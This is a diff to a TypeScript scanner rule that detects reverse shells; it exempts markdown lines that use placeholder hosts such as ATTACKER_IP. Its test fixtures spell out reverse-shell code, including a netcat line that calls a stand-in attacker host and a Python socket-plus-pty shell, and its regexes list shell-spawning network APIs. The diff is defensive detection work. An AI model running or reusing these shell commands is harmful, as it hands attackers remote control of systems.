@@ -398,11 +398,22 @@ const SOCKET_CONNECT = /\.connect\s*\(\s*\(|socket\s*\.\s*(?:socket|create_conne
 const SCRIPTED_SHELL =
   /\b(?:fsockopen|TCPSocket\.(?:new|open)|IO::Socket::INET|Net\.Sockets\.TCPClient)\b[^\n]{0,300}(?:\/bin\/(?:ba)?sh|cmd\.exe|\biex\b|Invoke-Expression|GetStream\(\))|\bchild_process\b[^\n]{0,200}\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["'][^\n]{0,200}\.pipe\(/gi;
 
+const PLACEHOLDER_HOST = /\b(?:ATTACKER|LHOST|RHOST|YOUR|REMOTE|LISTENER)_?(?:IP|HOST|ADDR(?:ESS)?)?\b|<(?:ip|host|lhost|attacker[\w -]{0,12}|your[\w -]{0,12})>|\bIP\s+PORT\b/;
+
+function lineText(text: string, index: number): string {
+  const { start, end } = lineBounds(text, index);
+  return text.slice(start, end);
+}
+
 function detectReverseShell(file: FileView): RuleMatch[] {
   if (skipFile(file)) return [];
   const text = file.text;
-  const keep = (m: RegExpExecArray, message: string): RuleMatch | null =>
-    warnedAgainst(file, m.index) ? null : { index: m.index, length: m[0].length, message };
+  const keep = (m: RegExpExecArray, message: string): RuleMatch | null => {
+    if (warnedAgainst(file, m.index)) return null;
+    // A cheat-sheet line (`nc -e /bin/sh ATTACKER_IP PORT`) connects nowhere until someone fills it in.
+    if ((file.kind === 'skill-md' || file.kind === 'markdown') && PLACEHOLDER_HOST.test(lineText(text, m.index))) return null;
+    return { index: m.index, length: m[0].length, message };
+  };
   const found = [
     ...scan(text, DEV_TCP, (m) => {
       const { start, end } = lineBounds(text, m.index);
@@ -1263,6 +1274,7 @@ export const rules: Rule[] = [
         { path: 'scripts/bridge.py', text: 'import socket, os, pty\nconn = socket.create_connection((HOST, PORT))\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\npty.spawn("/bin/bash")\n' },
       ],
       noMatch: [
+        '| Netcat with -e | `nc -e /bin/sh ATTACKER_IP PORT` | `nc` spawning `sh` |',
         { path: 'scripts/log.rb', text: "$stdout.reopen(log_file)\nsystem('ls -la')\n" },
         'Check that the port is open: `nc -zv localhost 5432`',
         { path: 'scripts/health.sh', text: 'exec 3<>/dev/null\nif timeout 1 cat < /dev/tcp/localhost/8080; then echo up; fi\n' },
